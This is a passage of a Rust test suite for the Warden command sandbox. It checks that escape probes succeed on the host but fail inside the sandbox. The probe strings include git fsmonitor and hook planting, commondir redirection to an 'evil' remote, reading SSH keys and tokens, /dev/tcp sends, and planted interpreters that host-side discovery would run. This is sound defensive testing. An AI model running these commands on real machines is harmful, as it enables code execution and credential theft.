    let (content, out) = worktree(false);
    assert!(
        !content.contains("evil"),
        "ESCAPE: rewrote the .git file: {out}"
    );
    // Moving the metadata aside and recreating it is not possible either.
    contrast("mv .git .git-old && mkdir -p .git/hooks", |f, _| {
        f.ws.join(".git-old").exists()
    });
    contrast("mv .git/hooks .git/hooks-old", |f, _| {
        f.ws.join(".git/hooks-old").exists()
    });
    contrast("rm -rf .warden", |f, _| !f.ws.join(".warden").exists());
    // Ordinary files in .git stay writable (git must work).
    let f = Fixture::new();
    let o = f.sandbox("echo x > .git/description");
    assert_eq!(read(&f.ws.join(".git/description")), "x\n", "{}", text(&o));
}

/// Where the workspace has no repository, `.git` cannot be protected in advance (a placeholder
/// would stop `git init` and change how tools see the workspace); a repository the command
/// creates with hooks or code-running configuration is named in a warning instead.
#[test]
fn a_new_repository_with_code_running_parts_is_reported() {
    let without_git = |script: &str| {
        let f = Fixture::new();
        std::fs::remove_dir_all(f.ws.join(".git")).expect("rm");
        let o = f.sandbox(script);
        (f, o)
    };
    let (f, o) = without_git(
        "git init -q && echo 'touch /tmp/x' > .git/hooks/pre-commit && \
         git config core.fsmonitor 'touch /tmp/y' && exit 3",
    );
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(3), "{err}");
    assert!(f.ws.join(".git/hooks/pre-commit").exists(), "{err}");
    assert!(
        err.contains("warning: the command created a git repository")
            && err.contains("hooks/pre-commit")
            && err.contains("config core.fsmonitor"),
        "no warning: {err}"
    );
    let (_f, o) = without_git("git init -q");
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(o.status.success() && !err.contains("warning"), "{err}");
    // A `.git` file pointing git at a directory the command filled is reported too.
    let (_f, o) = without_git("mkdir -p sub/hooks && echo 'gitdir: sub' > .git");
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(
        err.contains("created a .git file") && err.contains("gitdir: sub"),
        "no warning: {err}"
    );
}

/// Run git on the host (the user's later `git status`), isolated from this machine's git
/// configuration, with the fixture's home.
fn host_git(f: &Fixture, dir: &Path, args: &[&str]) -> Output {
    Command::new("git")
        .args(args)
        .current_dir(dir)
        .env("HOME", &f.home)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env_remove("GIT_DIR")
        .env_remove("GIT_COMMON_DIR")
        .stdin(Stdio::null())
        .output()
        .expect("git")
}

fn host_git_ok(f: &Fixture, dir: &Path, args: &[&str]) -> String {
    let o = host_git(f, dir, args);
    assert!(o.status.success(), "git {args:?}: {}", text(&o));
    String::from_utf8_lossy(&o.stdout).into_owned()
}

impl Fixture {
    /// The workspace as a real repository (identity in its own config, which the sandbox can
    /// read), with a bare `origin` and a submodule source outside the workspace (visible,
    /// read-only, in the sandbox), an absorbed submodule `sub` and a linked worktree outside.
    fn with_repo() -> Self {
        let f = Self::new();
        std::fs::remove_dir_all(f.ws.join(".git")).expect("rm");
        let root = f.ws.parent().expect("root").to_path_buf();
        let ws = f.ws.clone();
        host_git_ok(&f, &ws, &["init", "-q", "-b", "main"]);
        for (k, v) in [
            ("user.name", "Test"),
            ("user.email", "test@example.invalid"),
            ("protocol.file.allow", "always"),
        ] {
            host_git_ok(&f, &ws, &["config", k, v]);
        }
        host_git_ok(&f, &ws, &["add", "mine.txt"]);
        host_git_ok(&f, &ws, &["commit", "-q", "-m", "first"]);
        let subsrc = root.join("subsrc");
        std::fs::create_dir_all(&subsrc).expect("mkdir");
        host_git_ok(&f, &subsrc, &["init", "-q", "-b", "main"]);
        host_git_ok(
            &f,
            &subsrc,
            &[
                "-c",
                "user.name=T",
                "-c",
                "user.email=t@example.invalid",
                "commit",
                "-q",
                "--allow-empty",
                "-m",
                "s",
            ],
        );
        let subsrc = subsrc.to_str().expect("utf8").to_owned();
        host_git_ok(
            &f,
            &ws,
            &[
                "-c",
                "protocol.file.allow=always",
                "submodule",
                "add",
                "-q",
                &subsrc,
                "sub",
            ],
        );
        host_git_ok(&f, &ws, &["commit", "-q", "-m", "submodule"]);
        for (k, v) in [
            ("user.name", "Test"),
            ("user.email", "test@example.invalid"),
        ] {
            host_git_ok(&f, &ws.join("sub"), &["config", k, v]);
        }
        let origin = root.join("origin.git");
        let origin = origin.to_str().expect("utf8");
        host_git_ok(
            &f,
            &root,
            &["clone", "-q", "--bare", ws.to_str().expect("utf8"), origin],
        );
        host_git_ok(&f, &ws, &["remote", "add", "origin", origin]);
        let wt = root.join("wt");
        host_git_ok(
            &f,
            &ws,
            &["worktree", "add", "-q", wt.to_str().expect("utf8")],
        );
        assert!(ws.join(".git/modules/sub/HEAD").is_file() && ws.join("sub/.git").is_file());
        assert!(ws.join(".git/worktrees/wt/commondir").is_file());
        f
    }

    /// `warden run` with the fixture's policy and environment.
    fn run(&self, argv: &[&str]) -> Output {
        let mut cmd = Command::new(WARDEN);
        cmd.args(["run", "--policy"])
            .arg(&self.policy)
            .arg("--")
            .args(argv);
        self.env(&mut cmd);
        cmd.output().expect("warden run")
    }
}

/// Like [`contrast`], in a real repository.
fn contrast_repo(script: &str, effect: impl Fn(&Fixture) -> bool) {
    let f = Fixture::with_repo();
    let o = f.host(script);
    assert!(
        effect(&f),
        "control: the probe must work on the host: {script}\n{}",
        text(&o)
    );
    let f = Fixture::with_repo();
    let o = f.sandbox(script);
    assert!(
        !effect(&f),
        "ESCAPE inside the sandbox: {script}\n{}",
        text(&o)
    );
}

/// Issue 12, item 2. The attack: copy the repository into `.git/modules/x`, give the copy a
/// `core.fsmonitor` command and a remote, and write `modules/x` into `.git/commondir`; the
/// user's next `git status` on the host takes its configuration from the copy and runs the
/// command. Before (main at 1a02414), only `.git/config` and `.git/hooks/` were read-only in the
/// sandbox: `.git/modules/` and `.git/commondir` were writable, Warden warned about nothing, and
/// the host's `git status` ran the planted command. Now `.git/modules/` is read-only, and a
/// `commondir` that appears is moved aside after the run and reported; the variant that puts
/// the copy in a writable data directory (`.git/refs/x`) ends the same way.
#[test]
fn the_commondir_redirection_through_warden_run_is_refused() {
    for target in ["modules/x", "refs/x"] {
        let attack = |f: &Fixture| {
            let marker = f.out.join("pwned");
            format!(
                "c=$(mktemp -d) && cp -R .git/. \"$c/\"\n\
                 mkdir -p .git/{target} && cp -R \"$c/.\" .git/{target}/\n\
                 printf '[core]\\n\\tfsmonitor = \"touch {m}; false\"\\n[remote \"evil\"]\\n\\turl = https://evil.invalid/x\\n' >> .git/{target}/config\n\
                 echo {target} > .git/commondir\nexit 0\n",
                m = marker.display()
            )
        };
        let pwned = |f: &Fixture| {
            host_git(f, &f.ws, &["status", "--short"]);
            f.out.join("pwned").exists()
        };
        let f = Fixture::with_repo();
        std::fs::write(f.ws.join("attack.sh"), unread::script(&attack(&f))).expect("write");
        let o = f.host("sh attack.sh");
        assert!(pwned(&f), "control ({target}): {}", text(&o));

        let f = Fixture::with_repo();
        std::fs::write(f.ws.join("attack.sh"), unread::script(&attack(&f))).expect("write");
        let o = f.run(&["sh", "attack.sh"]);
        assert_eq!(
            o.status.code(),
            Some(0),
            "the attack did not run: {}",
            text(&o)
        );
        assert!(
            !pwned(&f),
            "ESCAPE through warden run ({target}): {}",
            text(&o)
        );
        assert!(!f.ws.join(".git/commondir").exists());
        let err = String::from_utf8_lossy(&o.stderr);
        assert!(
            err.contains("warning: ")
                && err.contains(".git/commondir (\"")
                && err.contains("moved aside"),
            "not reported ({target}): {err}"
        );
        // The outcome record keeps the warning.
        let log = read(&f.ws.join(".warden/audit/audit.jsonl"));
        assert!(
            log.lines()
                .any(|l| l.contains("moved aside") && l.contains("commondir")),
            "not in the outcome record: {log}"
        );
        // The repository still works on the host.
        host_git_ok(&f, &f.ws, &["log", "--oneline", "-1"]);
    }
}

/// Every control path of `.git` (and of a submodule's and a linked worktree's repository
/// directory) stays as it was, whether it existed or not. Before, all of these but
/// `.git/config` and `.git/hooks/` were writable.
#[test]
fn git_control_paths_are_read_only_in_the_sandbox() {
    let has = |rel: &'static str, needle: &'static str| {
        move |f: &Fixture| read(&f.ws.join(rel)).contains(needle)
    };
    let exists = |rel: &'static str| move |f: &Fixture| f.ws.join(rel).exists();
    contrast_repo(
        "printf '[core]\\n\\tfsmonitor = evil\\n' > .git/config.worktree",
        has(".git/config.worktree", "evil"),
    );
    contrast_repo(
        "echo '* filter=evil' >> .git/info/attributes",
        has(".git/info/attributes", "evil"),
    );
    contrast_repo(
        "echo evil >> .git/info/exclude",
        has(".git/info/exclude", "evil"),
    );
    contrast_repo(
        "printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/modules/sub/config",
        has(".git/modules/sub/config", "evil"),
    );
    contrast_repo(
        "echo evil > .git/modules/sub/hooks/post-checkout",
        exists(".git/modules/sub/hooks/post-checkout"),
    );
    contrast_repo(
        "mkdir -p .git/modules/y/hooks && echo evil > .git/modules/y/hooks/post-checkout",
        exists(".git/modules/y/hooks/post-checkout"),
    );
    contrast_repo(
        "echo /tmp/evil > .git/worktrees/wt/commondir",
        has(".git/worktrees/wt/commondir", "evil"),
    );
    contrast_repo(
        "echo /tmp/evil/.git > .git/worktrees/wt/gitdir",
        has(".git/worktrees/wt/gitdir", "evil"),
    );
    contrast_repo("mkdir -p .git/worktrees/new", exists(".git/worktrees/new"));
    contrast_repo(
        "echo /tmp/evil > .git/objects/info/alternates",
        has(".git/objects/info/alternates", "evil"),
    );
    contrast_repo("echo 'gitdir: ../evil' > sub/.git", has("sub/.git", "evil"));
    contrast_repo(
        "mkdir -p .git/remotes && echo 'URL: https://evil.invalid/' > .git/remotes/origin",
        exists(".git/remotes/origin"),
    );
    contrast_repo(
        "mv .git/modules .git/modules-old",
        exists(".git/modules-old"),
    );
    // Created inside a submodule's repository directory, a `commondir` is moved aside too.
    contrast_repo(
        "echo x > .git/modules/sub/commondir",
        exists(".git/modules/sub/commondir"),
    );
}

/// What cannot be refused in advance is reported after the run: a new entry git does not know,
/// a rebase left with `exec` lines in its todo (run by the user's `git rebase --continue`), and
/// a gitlink to a nested repository the command made (whose configuration the user's `git
/// status` runs). Before, none of these was reported.
#[test]
fn git_metadata_that_got_through_is_reported() {
    let warned_after = |setup: &dyn Fn(&Fixture), script: &str, needle: &str| {
        let f = Fixture::with_repo();
        setup(&f);
        let o = f.sandbox(script);
        let err = String::from_utf8_lossy(&o.stderr).into_owned();
        assert!(
            err.contains("warning: the command changed git metadata") && err.contains(needle),
            "not reported ({needle}): {script}\n{}",
            text(&o)
        );
    };
    let warned = |script: &str, needle: &str| warned_after(&|_| {}, script, needle);
    warned("echo x > .git/something-new", ".git/something-new");
    warned(
        "git -c sequence.editor='sed -i 1ibreak' rebase -q -i HEAD~1 >/dev/null 2>&1; \
         echo 'exec touch pwned' >> .git/rebase-merge/git-rebase-todo",
        "exec touch pwned",
    );
    warned(
        "mkdir nested && cd nested && git init -q && git config core.fsmonitor 'touch pwned' && \
         git -c user.name=a -c user.email=a@example.invalid commit -q --allow-empty -m n && \
         cd .. && git add nested 2>/dev/null",
        "new nested repositories linked in .git/index (nested: config core.fsmonitor)",
    );
    // A submodule `.gitmodules` lists that is not checked out: a repository the command puts
    // there is entered by `git status` just the same, though the index does not change.
    let unpopulated = |f: &Fixture| {
        let head = host_git_ok(f, &f.ws, &["rev-parse", "HEAD"]);
        let info = format!("160000,{},later", head.trim());
        host_git_ok(f, &f.ws, &["update-index", "--add", "--cacheinfo", &info]);
        let gm = f.ws.join(".gitmodules");
        let extra = "[submodule \"later\"]\n\tpath = later\n\turl = ./later\n";
        std::fs::write(&gm, read(&gm) + extra).expect("write");
    };
    warned_after(
        &unpopulated,
        "mkdir -p later && cd later && git init -q && git config core.fsmonitor 'touch pwned'",
        "(later: config core.fsmonitor)",
    );
}

/// Positive control: everyday git work in a real repository still works in the sandbox, and
/// leaves no warning.
#[test]
fn everyday_git_works_in_the_sandbox() {
    let f = Fixture::with_repo();
    // A linked worktree inside the workspace can be worked in too.
    host_git_ok(&f, &f.ws, &["worktree", "add", "-q", "inner"]);
    let script = "set -e\n\
        echo two > two.txt && git add two.txt && git commit -q -m two\n\
        git branch feat && git checkout -q -b topic\n\
        echo three > three.txt && git add three.txt && git commit -q -m three\n\
        echo wip >> mine.txt && git stash -q && git stash list | grep -q stash\n\
        git fetch -q origin\n\
        git checkout -q main && echo four > four.txt && git add four.txt && git commit -q -m four\n\
        git checkout -q topic && git rebase -q main\n\
        git tag v1 && git gc -q 2>/dev/null && git repack -adq 2>/dev/null\n\
        git commit -q --allow-empty -m after-gc\n\
        git -C sub commit -q --allow-empty -m in-submodule\n\
        git -C inner commit -q --allow-empty -m in-worktree\n\
        echo done\n";
    let o = f.sandbox(script);
    assert!(
        o.status.success() && text(&o).contains("done"),
        "{}",
        text(&o)
    );
    assert!(!text(&o).contains("warning"), "{}", text(&o));
    let log = host_git_ok(&f, &f.ws, &["log", "--format=%s", "topic"]);
    assert_eq!(
        log.lines().collect::<Vec<_>>(),
        ["after-gc", "three", "four", "two", "submodule", "first"]
    );
    host_git_ok(&f, &f.ws, &["rev-parse", "--verify", "-q", "feat"]);
    host_git_ok(
        &f,
        &f.ws,
        &["rev-parse", "--verify", "-q", "refs/remotes/origin/main"],
    );
    host_git_ok(&f, &f.ws, &["rev-parse", "--verify", "-q", "refs/stash"]);
    host_git_ok(&f, &f.ws, &["rev-parse", "--verify", "-q", "v1"]);
    host_git_ok(&f, &f.ws, &["fsck", "--no-progress"]);
    let sub = host_git_ok(&f, &f.ws.join("sub"), &["log", "--format=%s", "-1"]);
    assert_eq!(sub.trim(), "in-submodule");
    let inner = host_git_ok(
        &f,
        &f.ws,
        &["log", "--format=%s", "-1", "refs/heads/inner", "--"],
    );
    assert_eq!(inner.trim(), "in-worktree");
    // `git worktree add` and `git config` write control paths: refused.
    let o =
        f.sandbox("git worktree add -q ../elsewhere; git worktree add -q inside; git config x.y z");
    assert!(!f.ws.join("inside").join(".git").exists(), "{}", text(&o));
    assert!(
        !read(&f.ws.join(".git/config")).contains("x]"),
        "{}",
        text(&o)
    );
}

#[test]
fn host_processes_are_invisible_and_unsignalable() {
    let spawn_sleep = || Command::new("sleep").arg("300").spawn().expect("sleep");
    let probe = |pid: u32| {
        format!("ls /proc | grep -qx {pid} && echo SEEN-{pid}; kill -TERM {pid} && echo KILLED")
    };
    // Control.
    let mut victim = spawn_sleep();
    let o = Fixture::new().host(&probe(victim.id()));
    assert!(
        text(&o).contains(&format!("SEEN-{}", victim.id())),
        "control: {}",
        text(&o)
    );
    std::thread::sleep(Duration::from_millis(100));
    assert!(
        victim.try_wait().expect("try_wait").is_some(),
        "control: kill must work on the host"
    );
    // Sandbox.
    let mut victim = spawn_sleep();
    let o = Fixture::new().sandbox(&probe(victim.id()));
    assert!(
        !text(&o).contains(&format!("SEEN-{}", victim.id())),
        "host pid visible: {}",
        text(&o)
    );
    std::thread::sleep(Duration::from_millis(100));
    let alive = victim.try_wait().expect("try_wait").is_none();
    let _ = victim.kill();
    let _ = victim.wait();
    assert!(
        alive,
        "ESCAPE: the sandbox killed a host process: {}",
        text(&o)
    );
    // The sandbox's own PID 1 is Warden's init.
    let o = Fixture::new().sandbox("echo $$; cat /proc/1/cmdline | tr '\\0' ' '");
    assert!(text(&o).contains("__sandbox-init"), "{}", text(&o));
}

/// Accept on `l` for up to `wait`, returning the bytes received (empty if nobody connected).
fn received_tcp(l: &TcpListener, wait: Duration) -> Vec<u8> {
    l.set_nonblocking(true).expect("nonblocking");
    let deadline = Instant::now() + wait;
    while Instant::now() < deadline {
        if let Ok((mut s, _)) = l.accept() {
            s.set_nonblocking(false).expect("blocking");
            s.set_read_timeout(Some(Duration::from_secs(2)))
                .expect("timeout");
            let mut buf = Vec::new();
            let _ = s.read_to_end(&mut buf);
            return buf;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    Vec::new()
}

fn received_unix(l: &UnixListener, wait: Duration) -> Vec<u8> {
    l.set_nonblocking(true).expect("nonblocking");
    let deadline = Instant::now() + wait;
    while Instant::now() < deadline {
        if let Ok((mut s, _)) = l.accept() {
            s.set_nonblocking(false).expect("blocking");
            s.set_read_timeout(Some(Duration::from_millis(500)))
                .expect("timeout");
            let mut buf = vec![0u8; 4096];
            let n = s.read(&mut buf).unwrap_or(0);
            let _ = s.write_all(b"HTTP/1.0 200 OK\r\n\r\n");
            buf.truncate(n);
            return buf;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    Vec::new()
}

/// Run `script` on the host (the control) or in the sandbox, against a fresh fixture, then
/// return its output and what a host listener got: `received` waits long on the host, where the
/// bytes must arrive, and briefly in the sandbox, where none may.
fn probe_listener(
    sandboxed: bool,
    script: &str,
    received: impl FnOnce(Duration) -> Vec<u8>,
) -> (Output, String) {
    let f = Fixture::new();
    let o = if sandboxed {
        f.sandbox(script)
    } else {
        f.host(script)
    };
    let got = received(Duration::from_millis(if sandboxed { 300 } else { 3000 }));
    (o, String::from_utf8_lossy(&got).into_owned())
}

#[test]
fn host_tcp_listener_on_loopback_is_unreachable() {
    for sandboxed in [false, true] {
        let l = TcpListener::bind("127.0.0.1:0").expect("bind");
        let port = l.local_addr().expect("addr").port();
        let script = format!("bash -c 'echo {CANARY} > /dev/tcp/127.0.0.1/{port}'");
        let (o, got) = probe_listener(sandboxed, &script, |wait| received_tcp(&l, wait));
        if sandboxed {
            assert!(
                got.is_empty(),
                "ESCAPE: host listener got {got:?}: {}",
                text(&o)
            );
        } else {
            assert!(got.contains(CANARY), "control: {}", text(&o));
        }
    }
}

#[test]
fn host_unix_sockets_are_unreachable() {
    // A path socket in the host's /tmp (where agents and tools put them), one elsewhere on the
    // host file system (visible in the sandbox, read-only: a daemon's socket under /var or
    // /srv; before, connecting to it from inside worked), and an abstract socket.
    let elsewhere = || {
        tempfile::Builder::new()
            .prefix("warden-sock-")
            .tempdir_in(env!("CARGO_TARGET_TMPDIR"))
            .expect("tmp")
    };
    let in_tmp = || {
        tempfile::Builder::new()
            .prefix("warden-sock-")
            .tempdir()
            .expect("tmp")
    };
    for (sandboxed, dir) in [
        (false, in_tmp()),
        (true, in_tmp()),
        (false, elsewhere()),
        (true, elsewhere()),
    ] {
        let path = dir.path().join("s.sock");
        let l = UnixListener::bind(&path).expect("bind");
        let script = format!(
            "curl -s -m 2 --unix-socket {} http://x/{CANARY}",
            path.display()
        );
        let (o, got) = probe_listener(sandboxed, &script, |wait| received_unix(&l, wait));
        assert_eq!(
            got.contains(CANARY),
            !sandboxed,
            "sandboxed={sandboxed}, {}: {}",
            path.display(),
            text(&o)
        );
    }
    for sandboxed in [false, true] {
        use std::os::linux::net::SocketAddrExt;
        let name = format!("warden-escape-{}-{sandboxed}", std::process::id());
        let addr =
            std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).expect("addr");
        let l = UnixListener::bind_addr(&addr).expect("bind abstract");
        let script = format!("curl -s -m 2 --abstract-unix-socket {name} http://x/{CANARY}");
        let (o, got) = probe_listener(sandboxed, &script, |wait| received_unix(&l, wait));
        assert_eq!(
            got.contains(CANARY),
            !sandboxed,
            "abstract, sandboxed={sandboxed}: {}",
            text(&o)
        );
    }
}

#[test]
fn only_loopback_exists_inside() {
    let script = "tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '; ls /sys/class/net";
    let host = Fixture::new().host(script);
    let others = |o: &Output| {
        String::from_utf8_lossy(&o.stdout)
            .lines()
            .any(|l| !l.trim().is_empty() && l.trim() != "lo")
    };
    if !others(&host) {
        eprintln!("skipped control: the host has no interface besides lo");
    }
    let o = Fixture::new().sandbox(script);
    assert!(!others(&o), "interfaces besides lo inside: {}", text(&o));
    assert!(
        String::from_utf8_lossy(&o.stdout).contains("lo"),
        "lo missing: {}",
        text(&o)
    );
    // lo is up: a server inside can be reached from inside.
    let o = Fixture::new().sandbox(
        "cat /sys/class/net/lo/operstate 2>/dev/null; ip -o link show lo 2>/dev/null; echo done",
    );
    assert!(text(&o).contains("done"), "{}", text(&o));
}

#[test]
fn the_proxy_refuses_an_unlisted_invalid_host() {
    let o = Fixture::new()
        .sandbox("curl -s -S -f -m 10 http://blocked.canary.invalid/ && echo FETCHED");
    assert!(!text(&o).contains("FETCHED"), "{}", text(&o));
    // The refusal comes from Warden's proxy (the request reached it and was denied by rule).
    let o = Fixture::new().sandbox("curl -s -m 10 http://blocked.canary.invalid/");
    assert!(
        text(&o).contains("allowlist") || text(&o).contains("default-deny"),
        "{}",
        text(&o)
    );
}

#[test]
fn nested_user_namespaces_are_refused() {
    contrast("unshare -U true && echo NESTED-OK", |_, o| {
        text(o).contains("NESTED-OK")
    });
    contrast("unshare -Ur true && echo NESTED-OK", |_, o| {
        text(o).contains("NESTED-OK")
    });
}

#[test]
fn ptrace_is_refused() {
    contrast("strace -f -o /dev/null true && echo TRACED", |_, o| {
        text(o).contains("TRACED")
    });
}

#[cfg(target_arch = "x86_64")]
#[test]
fn dangerous_syscalls_fail_with_eperm() {
    // perl's syscall(): io_uring_setup(425), personality(135) with ADDR_NO_RANDOMIZE,
    // keyctl(250) KEYCTL_GET_KEYRING_ID, bpf(321) BPF_PROG_LOAD with a null attr.
    for (name, code) in [
        ("io_uring", "my $p = \"\\0\" x 120; syscall(425, 1, $p)"),
        ("personality", "syscall(135, 0x0040000)"),
        ("keyctl", "syscall(250, 0, -3, 0)"),
    ] {
        let script = format!(
            "perl -e '$r = do {{ {code} }}; print $r >= 0 ? \"SYSCALL-OK\\n\" : \"SYSCALL-FAIL $!\\n\"'"
        );
        contrast(&script, |_, o| text(o).contains("SYSCALL-OK"));
        let o = Fixture::new().sandbox(&script);
        assert!(
            text(&o).contains("Operation not permitted"),
            "{name}: {}",
            text(&o)
        );
    }
}

#[test]
fn proc_sys_is_read_only() {
    contrast(
        "v=$(cat /proc/sys/kernel/hostname); echo \"$v\" > /proc/sys/kernel/hostname && echo WROTE",
        |_, o| text(o).contains("WROTE"),
    );
}

#[test]
fn limits_are_present() {
    let o = Fixture::new().sandbox("bash -c 'ulimit -u; ulimit -n; ulimit -c'; grep -E 'Max (processes|open files|address space|core file size)' /proc/self/limits");
    let t = text(&o);
    let lines: Vec<&str> = t.lines().collect();
    assert_eq!(&lines[..3], ["777", "1234", "0"], "{t}");
    assert!(
        t.contains("Max address space")
            && !t
                .lines()
                .any(|l| l.starts_with("Max address space") && l.contains("unlimited")),
        "{t}"
    );
    let host = Fixture::new().host("bash -c 'ulimit -u'");
    assert_ne!(
        String::from_utf8_lossy(&host.stdout).lines().next(),
        Some("777"),
        "control"
    );
}

#[test]
fn capabilities_and_privileges_are_gone() {
    let script =
        "grep -E '^(CapEff|CapPrm|CapBnd|CapAmb|CapInh|NoNewPrivs|Seccomp):' /proc/self/status";
    let o = Fixture::new().sandbox(script);
    let t = text(&o);
    for cap in ["CapEff", "CapPrm", "CapBnd", "CapAmb", "CapInh"] {
        assert!(
            t.contains(&format!("{cap}:\t0000000000000000")),
            "{cap} not empty: {t}"
        );
    }
    assert!(
        t.contains("NoNewPrivs:\t1") && t.contains("Seccomp:\t2"),
        "{t}"
    );
    // Mounting (even a tmpfs, even in our own namespaces) is refused.
    contrast(
        "mkdir -p m && unshare -m sh -c 'mount -t tmpfs none m && echo MOUNTED'",
        |_, o| text(o).contains("MOUNTED"),
    );
}

#[test]
fn exit_status_and_signals_pass_through() {
    let f = Fixture::new();
    assert_eq!(f.sandbox("exit 42").status.code(), Some(42));
    assert_eq!(f.sandbox("kill -KILL $$").status.code(), Some(137));
    assert_eq!(f.sandbox("true").status.code(), Some(0));
    // A process left in the background does not keep the sandbox alive.
    let t = Instant::now();
    assert_eq!(f.sandbox("sleep 100 & exit 3").status.code(), Some(3));
    assert!(t.elapsed() < Duration::from_secs(50));
}

#[test]
fn through_warden_run_the_whole_path_holds_too() {
    // `bash probe.sh` classifies `auto` (an unknown script in the sandbox), so this exercises
    // classify → record → sandbox with the same attacks. The probe uses shell built-ins only
    // (no nested exec): the exec layer would refuse `cat ~/.ssh/id_rsa` and `bash -c …` before
    // they ran, and this test is about the sandbox underneath it.
    let l = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = l.local_addr().expect("addr").port();
    let probe = format!(
        "while IFS= read -r l || [ -n \"$l\" ]; do echo \"$l\"; done < \"$HOME/.ssh/id_rsa\"\n\
         echo \"token=$GITHUB_TOKEN\"\necho pwned > \"$OUT/file\"\n\
         echo evil > .git/hooks/post-checkout\necho {CANARY} > /dev/tcp/127.0.0.1/{port}\nexit 0\n"
    );
    let effects = |f: &Fixture, o: &Output| {
        [
            text(o).contains(&format!("{CANARY} .ssh/id_rsa")),
            text(o).contains(&format!("token={CANARY}")),
            read(&f.out.join("file")) != "orig\n",
            f.ws.join(".git/hooks/post-checkout").exists(),
        ]
    };
    let f = Fixture::new();
    std::fs::write(f.ws.join("probe.sh"), unread::script(&probe)).expect("write");
    let o = f.host("bash probe.sh");
    assert_eq!(effects(&f, &o), [true; 4], "control: {}", text(&o));
    assert!(
        String::from_utf8_lossy(&received_tcp(&l, Duration::from_secs(3))).contains(CANARY),
        "control tcp"
    );

    let f = Fixture::new();
    std::fs::write(f.ws.join("probe.sh"), unread::script(&probe)).expect("write");
    let mut cmd = Command::new(WARDEN);
    cmd.args(["run", "--policy"])
        .arg(&f.policy)
        .args(["--", "bash", "probe.sh"]);
    f.env(&mut cmd);
    let o = cmd.output().expect("warden run");
    assert_eq!(
        o.status.code(),
        Some(0),
        "the probe did not run: {}",
        text(&o)
    );
    assert_eq!(
        effects(&f, &o),
        [false; 4],
        "ESCAPE through warden run: {}",
        text(&o)
    );
    assert!(
        received_tcp(&l, Duration::from_millis(300)).is_empty(),
        "ESCAPE: tcp through warden run"
    );
}

/// `warden run` with a policy that discovers registries and git remotes (no forges), in the
/// fixture's workspace, with `extra` variables; returns the output.
fn run_discovering(f: &Fixture, argv: &[&str], extra: &[(&str, String)]) -> Output {
    let policy = f.ws.parent().expect("root").join("discovering.toml");
    std::fs::write(&policy, "[network]\nforges = false\n").expect("write");
    let mut cmd = Command::new(WARDEN);
    cmd.args(["run", "--policy"])
        .arg(&policy)
        .arg("--")
        .args(argv);
    f.env(&mut cmd);
    for (k, v) in extra {
        cmd.env(k, v);
    }
    cmd.output().expect("warden run")
}

/// Item 1 of the hardening issue: a sandboxed command plants code where host-side discovery
/// would pick it up — a `pip` package in the workspace (imported by `python3 -c` run with the
/// workspace as working directory) and interpreters on a `PATH` entry inside the workspace (an
/// activated `.venv/bin`). The next run that starts the proxy must not run any of it on the
/// host. Before the fix, that run's discovery imported `pip/__init__.py` and ran the planted
/// `python3`/`npm`/`git`, which wrote the marker outside the workspace.
#[test]
fn workspace_code_never_runs_on_the_host_through_discovery() {
    let f = Fixture::new();
    let plant = format!(
        "mkdir -p pip .venv/bin && \
         echo 'open(\"{out}/pip-package\", \"w\").write(\"ran\")' > pip/__init__.py && \
         for t in python3 python pip npm node git go gem unzip mvn; do \
           printf '#!/bin/sh\\ntouch {out}/path-%s\\nexit 1\\n' $t > .venv/bin/$t; chmod +x .venv/bin/$t; \
         done && printf 'module x\\n\\ngo 1.99.1\\n\\ntoolchain go1.99.1\\n' > go.mod",
        out = f.out.display()
    );
    std::fs::write(f.ws.join("plant.sh"), unread::script(&plant)).expect("write");
    // Control: the planted package runs when Python starts in the workspace on the host.
    let o = f.host("python3 -c 'import sys' && sh plant.sh && python3 -c 'import pip' ; true");
    assert!(
        f.out.join("pip-package").exists(),
        "control: the planted package must run on the host: {}",
        text(&o)
    );
    std::fs::remove_file(f.out.join("pip-package")).expect("rm");
    for e in std::fs::read_dir(&f.ws).expect("ls").flatten() {
        let n = e.file_name();
        if n == "pip" || n == ".venv" {
            std::fs::remove_dir_all(e.path()).expect("rm");
        }
    }

    let o = run_discovering(&f, &["sh", "plant.sh"], &[]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert!(f.ws.join("pip/__init__.py").exists(), "{}", text(&o));
    // The next runs start the proxy (their command makes a request), so discovery runs: once
    // with the caller's PATH, once with the workspace's `.venv/bin` first on it (a different
    // cache key, so the probes run again).
    std::fs::write(
        f.ws.join("fetch.sh"),
        "curl -s -m 20 http://probe.canary.invalid/ ; exit 0\n",
    )
    .expect("write");
    let ran = || -> Vec<String> {
        std::fs::read_dir(&f.out)
            .expect("ls")
            .flatten()
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .filter(|n| n != "file")
            .collect()
    };
    let o = run_discovering(&f, &["sh", "fetch.sh"], &[]);
    assert!(
        text(&o).contains("default-deny"),
        "the proxy ran and refused: {}",
        text(&o)
    );
    assert!(
        ran().is_empty(),
        "ESCAPE: workspace code ran on the host: {:?}",
        ran()
    );
    let path = format!(
        "{}:{}",
        f.ws.join(".venv/bin").display(),
        std::env::var("PATH").unwrap_or_default()
    );
    let o = run_discovering(
        &f,
        &["sh", "fetch.sh"],
        &[
            ("PATH", path),
            ("VIRTUAL_ENV", f.ws.join(".venv").display().to_string()),
        ],
    );
    assert!(
        text(&o).contains("default-deny"),
        "the proxy ran and refused: {}",
        text(&o)
    );
    assert!(
        ran().is_empty(),
        "ESCAPE: workspace code ran on the host: {:?}",
        ran()
    );
}

/// Item 3 of the hardening issue: a sandboxed command writes `.npmrc` naming a registry (a
/// script, so the write is not seen by classification), and the next run may not reach that
/// host because of it; the writing run is warned about. Before the fix, discovery read the
/// `.npmrc` as it found it and the second run's proxy allowed the host (it then failed only to
/// resolve the `.invalid` name). A person editing the file outside the sandbox trusts it again.
#[test]
fn a_sandboxed_command_cannot_widen_the_allowlist_of_later_runs() {
    let f = Fixture::new();
    std::fs::write(
        f.ws.join("widen.sh"),
        unread::script("printf 'registry=http://widen.canary.invalid/\\n' > .npmrc\n"),
    )
    .expect("write");
    std::fs::write(
        f.ws.join("fetch.sh"),
